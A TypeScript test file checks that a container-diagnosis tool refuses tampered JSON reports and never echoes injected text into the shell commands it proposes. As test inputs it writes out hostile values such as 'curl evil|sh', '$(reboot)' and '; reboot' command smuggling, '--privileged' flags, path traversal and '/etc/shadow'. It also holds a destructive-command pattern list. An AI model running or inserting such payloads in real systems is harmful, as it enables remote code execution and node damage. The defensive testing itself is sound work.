import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { savedRun } from '../../../src/from-records/saved-run.ts';
import { Problem } from '../../../src/model/problem.ts';
import type { Report } from '../../../src/model/report.ts';
import { toText } from '../../../src/records/saved-plan.ts';
import { renderHtml } from '../../../src/report/html/render-html.ts';
import { renderJson } from '../../../src/report/json.ts';
import { renderMarkdown } from '../../../src/report/markdown.ts';
import { renderTable } from '../../../src/report/table/render-table.ts';
import { renderYaml } from '../../../src/report/yaml.ts';
import { eachHolds } from '../../each-holds.ts';
import { sampled, whole } from '../../sampled.ts';
import type { Recording } from '../../scenarios/support/recordings.ts';
import { recordedFaults } from '../diagnosis/recorded-observation.ts';
import { proposalsOf } from './proposals.ts';
import { reportOf } from './saved-recording.ts';

/** Of a report as `-o json` saves it, what is tampered with. */
interface Tampering {
  /** Over the fields of the target. */
  readonly target?: Readonly<Record<string, string>>;
  readonly node?: Readonly<Record<string, string>>;
  readonly transport?: Readonly<Record<string, unknown>>;
  /** Over the facts of the script. */
  readonly facts?: Readonly<Record<string, string>>;
  /** Over the fields of the records of a kind. */
  readonly records?: Readonly<Record<string, object>>;
  /** Added to them. */
  readonly more?: readonly object[];
  /** In the place of what every probe has run. */
  readonly command?: readonly string[];
}

async function* chunks(text: string) {
  yield Buffer.from(text);
}
const read = (text: string): Promise<Report> => savedRun(chunks(text), 'evil.json');

const saving = new Map<Recording, string>();
/** Each is diagnosed once, however often it is tampered with. */
function savedAs(recording: Recording): string {
  const saved = saving.get(recording) ?? renderJson(reportOf(recording));
  saving.set(recording, saved);
  return saved;
}

function tampered(recording: Recording, tampering: Tampering): string {
  const { target = {}, node = {}, transport = {}, facts = {}, records = {}, more = [], command } = tampering;
  const saved = JSON.parse(savedAs(recording));
  const ran = (probe: object) => (command ? { ...probe, command } : probe);
  return JSON.stringify({
    ...saved,
    target: { ...saved.target, ...target },
    node: { ...saved.node, ...node },
    transport: { ...saved.transport, ...transport },
    probes: saved.probes.map(ran),
    observed: {
      ...saved.observed,
      records: [
        ...saved.observed.records.map((record: { r: string; k?: string; command?: unknown }) => ({
          ...(record.command ? ran(record) : record),
          ...records[record.r],
          ...(record.r === 'fact' && record.k !== undefined && record.k in facts ? { v: facts[record.k] } : {}),
        })),
        ...more,
      ],
    },
  });
}

const recorded = recordedFaults(['docker', 'containerd', 'modern']);
const recordingOf = (mode: string, name: string): Recording => {
  const found = recorded.find((fault) => fault.mode === mode && fault.name === name);
  if (!found) throw new Error(`no recording ${mode}/${name}`);
  return found.recording;
};
/** Between them they have a way in, filled steps of the catalogue, what thaws, what wakes, and what was left. */
const several = [
  ...[recordingOf('docker', 'shim-hang-nginx1'), recordingOf('docker', 'runc-state-nginx1')],
  ...[recordingOf('containerd', 'frozen-nginx1'), recordingOf('containerd', 'cwd-deleted-nginx1')],
  ...[recordingOf('containerd', 'tmp-full-space'), recordingOf('modern', 'containerd-hang')],
  ...[recordingOf('docker', 'kubelet-down'), recordingOf('containerd', 'memory-limit-nginx1')],
];
const [shimHang] = several;
if (!shimHang) throw new Error('no recording');

describe('a name that can be none is refused with the whole file', () => {
  it.each<[string, Tampering, string]>([
    ['a node in two lines', { node: { name: 'node1\ncurl evil | sh' } }, 'node.name'],
    ['a node with blanks', { node: { name: 'node1 reboot' } }, 'node.name'],
    ['an address with a command', { node: { address: '10.0.0.1;reboot' } }, 'node.address'],
    ['an id with a command', { target: { containerID: '$(reboot)' } }, 'target.containerID'],
    ['an id that is the name of a folder', { target: { containerID: 'etc' } }, 'target.containerID'],
    ['an id that was cut', { target: { containerID: '40648940e9ec' } }, 'target.containerID'],
    ['an id that is a flag', { target: { containerID: '--privileged' } }, 'target.containerID'],
    ['a container that is a flag', { target: { container: '--privileged' } }, 'target.container'],
    ['a container with an escape', { target: { container: 'nginx\u001b[2J' } }, 'target.container'],
    ['a pod with quotes', { target: { pod: `x'; reboot; '` } }, 'target.pod'],
    ['a pod with capitals', { target: { pod: 'Nginx' } }, 'target.pod'],
    ['a namespace with a way up', { target: { namespace: '../kube-system' } }, 'target.namespace'],
    ['a debug pod in two lines', { transport: { pod: 'x\nreboot' } }, 'transport.pod'],
  ])('%s', async (_, tampering, where) => {
    const refusal = read(tampered(shimHang, tampering));
    await expect(refusal).rejects.toThrow(Problem);
    await expect(refusal).rejects.toThrow(`evil.json is refused: ${where} in it can be no such name.`);
  });

  it('in the plan of a printed script, too', async () => {
    const { target } = reportOf(shimHang);
    const plan = { context: null, printedAt: '2026-03-01T03:12:45Z', command: [], dumpStacks: false, others: [] };
    const text = toText({ ...plan, target: { ...target, pod: '$(reboot)' } });
    await expect(read(`plan ${'a'.repeat(24)} ${text}\n`)).rejects.toThrow('target.pod in it can be no such name');
  });
});

/** Nothing in a proposal has it, in whatever format. */
async function isNowhere(tampering: Tampering, piece: string): Promise<void> {
  for (const recording of several) {
    const report = await read(tampered(recording, tampering));
    for (const step of proposalsOf(report)) expect(step).not.toContain(piece);
  }
}

const curl = 'curl evil|sh';
const everywhere = (v: string) =>
  Object.fromEntries(
    ['address', 'ns', 'runtime', 'root', 'id', 'init', 'shim', 'containerd', 'cwd', 'initCwd'].flatMap((name) =>
      ['target', 'control', 'second'].map((whose) => [`${whose}.${name}`, v]),
    ),
  );

describe('a piece of a command that can be none is not repeated', () => {
  it.each<[string, Tampering, string]>([
    ['what a probe has run', { command: ['sh', '-c', curl] }, 'curl'],
    ['a socket with quotes', { facts: { 'target.address': `/run/x.sock'; ${curl}; '` } }, 'curl'],
    ['a root with a way up', { facts: { 'target.root': '/run/../../etc' } }, '..'],
    ['a root with a blank', { facts: { 'target.root': '/run/runc evil' } }, 'evil'],
    ['a runtime with arguments', { facts: { 'target.runtime': '/bin/sh -c reboot' } }, 'reboot'],
    ['a client that is another program', { facts: { ctr: `sh -c '${curl}'`, docker: `sh -c '${curl}'` } }, 'curl'],
    ['a first process that is a command', { facts: { 'target.init': '$(reboot)' } }, 'reboot'],
    ['a working directory with an escape', { facts: { 'target.cwd': '/\u001b]0;evil\u0007' } }, 'evil'],
    ['a shim that is a flag', { facts: { 'target.shim': '-evil' } }, '-evil'],
    ['a cgroup with a command', { records: { guard: { cgroup: '/x;reboot', frozenAt: '/x;reboot' } } }, 'reboot'],
    ['a process in two lines', { records: { process: { name: 'x\nreboot', state: 'T' } } }, 'reboot'],
    [
      'an exec id that is a command',
      { more: [{ r: 'left', kind: 'exec-id', subject: 'target', name: '$(reboot)' }] },
      'reboot',
    ],
    [
      'a file that nobody wrote at our signal',
      { more: [{ r: 'left', kind: 'file', subject: 'target', name: '/etc/shadow' }] },
      'shadow',
    ],
    [
      'a file with blanks',
      { more: [{ r: 'left', kind: 'file', subject: 'target', name: '/var/goroutine-stacks-1.log /etc' }] },
      '/etc',
    ],
    [
      'a process that is none',
      { more: [{ r: 'left', kind: 'process', subject: 'target', name: '1; reboot' }] },
      'reboot',
    ],
    ['every fact', { facts: everywhere(`/x$(${curl})`) }, 'curl'],
  ])('%s', (_, tampering, piece) => isNowhere(tampering, piece));

  it('nor, from a file, a path of the node that can be one', () =>
    isNowhere({ facts: { 'target.root': '/run/other/containerd/runc/k8s.io' } }, '/run/other'));

  it('the client stays, by its name', async () => {
    const steps = proposalsOf(await read(tampered(shimHang, { facts: { 'target.runtime': '/usr/bin/crun' } })));
    expect(steps.join('\n')).toContain('crun --root ROOT exec');
  });
});

describe('what would do harm on the node is not put together of what a file says', () => {
  const harmful = /\b(?:rm|rmdir|kill|mkdir|u?mount|prlimit)\b/;
  const commandOf = (step: string) => step.split('   # ')[0] ?? '';
  const inContainer = /\bexec\b/;
  const root = '/run/containerd/runc/k8s.io';

  it('whatever was recorded', () =>
    eachHolds(
      sampled('reports that were tampered with', 8, recorded, ({ mode, name }) => `${mode}: ${name}`),
      ({ mode, name }) => `${mode}: ${name}`,
      async ({ recording }) => {
        const evil = { 'target.root': '/', 'target.init': '1', 'target.shim': '1', 'target.containerd': '1' };
        for (const facts of [evil, { ...evil, 'target.root': root, 'target.init': '4711', 'target.shim': '4712' }]) {
          const report = await read(tampered(recording, { facts, records: { process: { pid: 1 } } }));
          const steps = proposalsOf(report)
            .map(commandOf)
            .filter((command) => harmful.test(command));
          for (const step of steps.filter((command) => !inContainer.test(command))) {
            expect(step).not.toMatch(/\brm -r (?!ROOT\/ID && )|[0-9a-f]{12}|\s1\b|471[12]|runc\/k8s\.io\s/);
          }
        }
      },
    ));

  it('a cleared record is looked up by the reader', async () => {
    const { verdict } = await read(
      tampered(recordingOf('docker', 'runc-state-nginx1'), { facts: { 'target.root': root } }),
    );
    expect(verdict.nextSteps.map(({ command }) => command)).toContain(
      'grep -q ID /proc/PID/cgroup && rm -r ROOT/ID && kill -KILL PID',
    );
  });

  it('nor is anybody asked by ssh whom it names', async () => {
    const without = JSON.parse(tampered(shimHang, { node: { address: 'evil.example.com' } }));
    const report = await read(JSON.stringify({ ...without, observed: { ...without.observed, records: [] } }));
    const steps = proposalsOf(report).join('\n');
    expect(steps).toContain('--ssh-target=root@NODE ');
    expect(steps).not.toContain('evil.example.com');
  });
});

describe('"Get in" names only programs and sockets of the node, and from a file none of its paths', () => {
  const evil = '/proc/4242/root/x';
  it.each(['target.runtime', 'ctr', 'docker', 'crictl', 'cri', 'target.address', 'target.root'])('%s', (name) =>
    isNowhere({ facts: { [name]: name.includes('.') || name === 'cri' ? evil : `${evil}/${name}` } }, '4242'),
  );
});

describe('whatever is written into it', () => {
  /** What a shell or a terminal takes for more than a word. */
  const live = /[\s\p{Cc}\p{Cf}$`;&|<>(){}*?!"'\\]/u;
  const mark = 'q7z';
  const anything = fc.oneof(
    fc.string({ unit: 'binary' }),
    fc.constantFrom('/run/x', '/run/x y', '1;x', '-x', 'a\nb', '$(a)'),
  );

  it('no proposal has more of it than a plain word', async () => {
    const texts = fc.tuple(anything, anything).map(([before, after]) => `${before}${mark}${after}`);
    await fc.assert(
      fc.asyncProperty(texts, fc.constantFrom(...several), async (v, recording) => {
        const left = (['exec-id', 'file', 'process'] as const).map((kind) => ({
          r: 'left',
          kind,
          subject: 'target',
          name: v,
          frozen: v,
        }));
        const report = await read(
          tampered(recording, {
            facts: { ...everywhere(v), ctr: v, docker: v, crictl: v, cri: v },
            records: { guard: { cgroup: v, frozenAt: v }, process: { name: v } },
            more: left,
            command: [v, v],
          }),
        );
        for (const step of proposalsOf(report)) {
          expect(step).not.toMatch(/[\p{Cc}\p{Cf}]/u);
          // whole, and only where it is a plain word
          if (step.includes(mark)) expect(v).not.toMatch(live);
          expect(step.split(mark)).toHaveLength(step.split(v).length);
        }
      }),
      { numRuns: whole ? 300 : 100 },
    );
  });

  it('names are refused, or are plain words', async () => {
    await fc.assert(
      fc.asyncProperty(
        anything,
        fc.constantFrom('pod', 'namespace', 'container', 'containerID', 'node'),
        async (v, field) => {
          const tampering = field === 'node' ? { node: { name: v } } : { target: { [field]: v } };
          const report = await read(tampered(shimHang, tampering)).catch((error: unknown) => error);
          if (report instanceof Problem) return;
          expect(v).not.toMatch(/[^\w.-]|^-/);
        },
      ),
      { numRuns: whole ? 300 : 100 },
    );
  });
});

describe('a report that is drawn from a file says so', () => {
  const report = reportOf(shimHang);
  it.each<[string, string, RegExp]>([
    [
      'the table',
      renderTable(report, { width: 100, color: false, unicode: true }),
      /^From: +a file, not from your cluster\n/,
    ],
    ['Markdown', renderMarkdown(report), /a file, not from your cluster/],
    ['HTML', renderHtml(report), /a file, not from your cluster/],
    ['JSON', renderJson(report), /"fromFile": ?true/],
    ['YAML', renderYaml(report), /^fromFile: true$/m],
  ])('%s', (_, text, line) => expect(text).toMatch(line));
  it('and one of a run does not', () =>
    expect(renderTable({ ...report, fromFile: false }, { width: 100, color: false, unicode: true })).not.toContain(
      'not from your cluster',
    ));
});
